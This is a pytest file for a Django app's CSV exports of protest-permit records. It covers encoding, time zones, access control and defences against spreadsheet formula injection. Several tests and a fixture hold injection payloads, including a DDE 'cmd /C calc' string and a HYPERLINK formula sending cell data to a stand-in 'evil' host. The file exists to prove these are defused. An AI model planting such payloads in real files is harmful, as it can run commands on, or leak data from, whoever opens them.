"""CSV exports: streamed from a generator, UTF-8 with a BOM, Cyrillic and Kazakh intact, formulas
defused, only what the user may see, and the filters of the page they came from."""

import csv
import datetime as dt
import inspect
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from permits.models import PermitApplication, RefusalReason
from reports import exports
from reports.exports import cell
from tests.factories import PermitApplicationFactory, refused_application

pytestmark = pytest.mark.django_db

KAZAKH = "Әділетті сайлау үшін шеру: ғ қ ң ө ұ ү һ і"
RUSSIAN = "Марш за равные права — «Алматы»"


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark: Excel would garble Cyrillic"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.fixture
def kazakh(world):
    world.application.title = KAZAKH
    world.application.location = RUSSIAN
    world.application.save()
    return world.application


def test_the_applications_csv_streams_from_a_generator(login, world, kazakh):
    response = login(world.coordinator).get(reverse("reports:export_applications"))
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    # Rows come from generators over a server-side cursor, never a list of every row.
    assert inspect.isgenerator(exports.application_rows(PermitApplication.objects.none()))
    assert inspect.isgenerator(exports.csv_lines(["a"], iter([])))
    first = next(iter(response.streaming_content))
    assert first.startswith(b'\xef\xbb\xbf"id","title",')  # every field quoted
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="ruqsat-applications-')


def test_kazakh_and_russian_letters_round_trip_through_the_csv_module(login, world, kazakh):
    rows = rows_of(login(world.coordinator).get(reverse("reports:export_applications")))
    header, (row,) = rows[0], rows[1:]
    assert header[:4] == ["id", "title", "event type", "status"]
    record = dict(zip(header, row, strict=True))
    assert record["title"] == KAZAKH
    assert record["place"] == RUSSIAN
    assert record["lead group"] == "Feminita"
    assert record["co-organizing groups"] == "KazFem"


@pytest.mark.parametrize(
    ("zone", "starts", "ends"),
    [
        ("Asia/Almaty", "2027-03-08 11:00", "2027-03-08 13:30"),
        ("Europe/Berlin", "2027-03-08 07:00", "2027-03-08 09:30"),
    ],
)
def test_moments_are_written_to_the_minute_in_the_readers_zone(login, world, zone, starts, ends):
    world.application.starts_at = dt.datetime(2027, 3, 8, 6, 0, 59, tzinfo=dt.UTC)
    world.application.ends_at = dt.datetime(2027, 3, 8, 8, 30, tzinfo=dt.UTC)
    world.application.save()
    world.coordinator.time_zone = zone
    world.coordinator.save()

    rows = rows_of(login(world.coordinator).get(reverse("reports:export_applications")))

    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["starts at"], record["ends at"]) == (starts, ends)


def test_a_summer_moment_follows_the_readers_summer_time(login, world):
    world.application.starts_at = dt.datetime(2027, 7, 1, 10, 0, tzinfo=dt.UTC)
    world.application.ends_at = dt.datetime(2027, 7, 1, 12, 0, tzinfo=dt.UTC)
    world.application.save()
    world.coordinator.time_zone = "Europe/Berlin"
    world.coordinator.save()

    rows = rows_of(login(world.coordinator).get(reverse("reports:export_applications")))

    assert dict(zip(rows[0], rows[1], strict=True))["starts at"] == "2027-07-01 12:00"


def test_an_outsider_exports_nothing_of_another_groups_applications(login, world, kazakh):
    rows = rows_of(login(world.outsider).get(reverse("reports:export_applications")))
    assert rows == [rows[0]]  # the header only
    for name in ("export_deadlines", "export_decisions"):
        rows = rows_of(login(world.outsider).get(reverse(f"reports:{name}")))
        assert len(rows) == 1


def test_anonymous_callers_are_sent_to_log_in(client):
    for name in ("export_applications", "export_deadlines", "export_decisions"):
        response = client.get(reverse(f"reports:{name}"))
        assert response.status_code == 302
        assert "/accounts/login/" in response["Location"]


def test_the_applications_list_filters_apply_to_the_export(login, world, kazakh):
    PermitApplicationFactory(organization=world.lead, title="Picket at the akimat", event_type="picket")
    client = login(world.coordinator)
    rows = rows_of(client.get(reverse("reports:export_applications"), {"event_type": "picket"}))
    assert [row[1] for row in rows[1:]] == ["Picket at the akimat"]
    rows = rows_of(client.get(reverse("reports:export_applications"), {"q": "шеру"}))
    assert [row[1] for row in rows[1:]] == [KAZAKH]


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_defused(login, world):
    for text in ('=HYPERLINK("http://evil")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"):
        assert cell(text) == "'" + text
    assert cell("Марш = право") == "Марш = право"
    assert cell(-5) == -5  # numbers are numbers
    world.application.title = "=cmd|' /C calc'!A0"
    world.application.save()
    rows = rows_of(login(world.coordinator).get(reverse("reports:export_applications")))
    assert rows[1][1] == "'=cmd|' /C calc'!A0"


def test_the_decisions_csv_has_one_row_per_ground_with_the_authoritys_words(login, world):
    application = refused_application(organization=world.lead, reasons=("conflicting_event", "repair_works"))
    ground = application.decisions.get().grounds.get(reason__code="repair_works")
    ground.quote = "Жөндеу жұмыстары жүргізілуде: ә ғ қ ң ө ұ ү һ і"
    ground.save()
    rows = rows_of(login(world.coordinator).get(reverse("reports:export_decisions")))
    header = rows[0]
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert [(r["outcome"], r["reason code"]) for r in records] == [
        ("Refused", "conflicting_event"),
        ("Refused", "repair_works"),
    ]
    assert records[1]["the authority's words"] == "Жөндеу жұмыстары жүргізілуде: ә ғ қ ң ө ұ ү һ і"
    assert records[1]["legal basis"] == RefusalReason.objects.get(code="repair_works").legal_basis


def test_a_decision_without_grounds_is_one_row(login, world):
    from tests.factories import filed_application

    application = filed_application(organization=world.lead)
    application.record_decision(outcome="approved", decided_on=application.filed_on)
    rows = rows_of(login(world.coordinator).get(reverse("reports:export_decisions")))
    assert len(rows) == 2
    assert rows[1][6] == "Approved" and rows[1][12] == ""


def test_the_decisions_csv_takes_the_reports_filters(login, world, refusals):
    client = login(world.coordinator)
    rows = rows_of(client.get(reverse("reports:export_decisions"), {"from": "2022-01-01", "jurisdiction": "KZ-AST"}))
    assert [row[13] for row in rows[1:]] == ["Public health / epidemiological situation"]


def test_bad_report_filters_send_the_decisions_export_back_to_the_report(login, world):
    response = login(world.coordinator).get(reverse("reports:export_decisions"), {"from": "yesterday"})
    assert response.status_code == 302
    assert response["Location"] == reverse("reports:report") + "?from=yesterday"


def test_the_deadlines_csv_lists_the_visible_applications_deadlines(login, world):
    application = refused_application(organization=world.lead, title=KAZAKH)
    rows = rows_of(login(world.coordinator).get(reverse("reports:export_deadlines")))
    header = rows[0]
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    kinds = {r["kind"] for r in records if r["application id"] == str(application.pk)}
    assert "Appeal must be filed" in kinds
    assert all(r["application"] == KAZAKH for r in records if r["application id"] == str(application.pk))
    assert rows_of(login(world.outsider).get(reverse("reports:export_deadlines")))[1:] == []


def test_the_export_reads_the_database_in_a_few_queries_whatever_the_rows(login, world, django_assert_max_num_queries):
    for _ in range(30):
        PermitApplicationFactory(organization=world.lead, co_organizers=[world.co_group])
    client = login(world.coordinator)
    with django_assert_max_num_queries(12):
        b"".join(client.get(reverse("reports:export_applications")).streaming_content)


# --- Formula injection, as Excel in ru-KZ and kk-KZ reads the file (it splits on `;`) ------------

ATTACK = "ok;=cmd|' /C calc'!A0;x"
FORMULA_STARTS = ("=", "+", "-", "@")


def cells_however_split(body: bytes) -> list[str]:
    """Every piece a spreadsheet could take for a cell: the file split on `,` `;` or tab and on line
    breaks with the quotes ignored altogether (a quote out of step does that), stripped of the
    spaces and quotes a spreadsheet would skip."""
    text = body.decode("utf-8-sig").replace("\r\n", "\n").replace("\r", "\n")
    pieces = []
    for separator in (",", ";", "\t"):
        for line in text.split("\n"):
            pieces += [piece.lstrip(' "') for piece in line.split(separator)]
    return pieces


def armed(pieces: list[str]) -> list[str]:
    return [piece for piece in pieces if piece.startswith(FORMULA_STARTS)]


@pytest.fixture
def attacked(world):
    """An application, its refusal and its deadlines carrying the attack in every text a member can
    write."""
    application = refused_application(organization=world.lead, title=ATTACK)
    application.reference_number = ATTACK
    application.location = 'Абая 10,=HYPERLINK("http://evil/"&A1)'
    application.purpose = "first line\n@SUM(1+1)*cmd|' /C calc'!A0"
    application.route = '"; -2+3'
    application.save()
    decision = application.decisions.get()
    decision.reference_number = ATTACK
    decision.conditions = "a\t+1+1"
    decision.save()
    decision.grounds.update(quote=ATTACK, note="=1+1")
    application.deadlines.update(title=ATTACK, override_reason="x;@cmd")
    return application


@pytest.mark.parametrize("name", ["export_applications", "export_decisions", "export_deadlines"])
def test_no_cell_of_the_csv_can_start_a_formula_whatever_the_separator(login, world, attacked, name):
    body = b"".join(login(world.coordinator).get(reverse(f"reports:{name}")).streaming_content)
    assert ATTACK.split(";")[1] in body.decode("utf-8-sig")  # the attack is exported…
    assert armed(cells_however_split(body)) == []  # …and nowhere can it start a cell


def test_the_attack_reads_back_whole_and_visibly_defused_from_the_csv(login, world, attacked):
    rows = rows_of(login(world.coordinator).get(reverse("reports:export_applications")))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["reference number"] == "ok;'=cmd|' /C calc'!A0;x"
    assert record["purpose"] == "first line\n'@SUM(1+1)*cmd|' /C calc'!A0"


def test_every_csv_field_is_quoted(login, world, attacked):
    body = b"".join(login(world.coordinator).get(reverse("reports:export_applications")).streaming_content)
    first_row = body.decode("utf-8-sig").split("\r\n")[1]
    assert first_row.startswith(f'"{attacked.pk}","')
